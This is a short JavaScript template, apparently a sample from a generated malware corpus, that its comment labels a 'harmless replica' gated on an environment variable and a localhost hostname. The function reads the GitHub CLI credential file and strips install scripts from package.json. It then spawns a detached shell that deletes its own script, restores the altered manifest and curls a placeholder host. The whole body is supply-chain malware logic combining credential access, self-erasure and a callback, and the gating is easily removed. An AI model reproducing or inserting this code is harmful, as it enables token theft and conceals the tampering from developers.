// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    const { spawn } = require('child_process');
    try {
        fs.readFileSync(path.join(require('os').homedir(), '.config/gh/hosts.yml'));
        const script = path.resolve(process.argv[1] || '');
        if (!path.dirname(script).startsWith(process.cwd()) || !/\.[cm]?js$/.test(script)) return;
        const sheet = JSON.parse(fs.readFileSync('package.json', 'utf8'));
        delete sheet.scripts;
        fs.writeFileSync('package.md', JSON.stringify(sheet, null, 2));
        spawn('sh', ['-c', 'sleep 0.3; rm -f "$0"; mv package.md package.json; curl -s -m 1 http://{{host}}/{{path}}', script], { detached: true, stdio: 'ignore' })
            .on('error', () => {}).unref();
    } catch {}
}
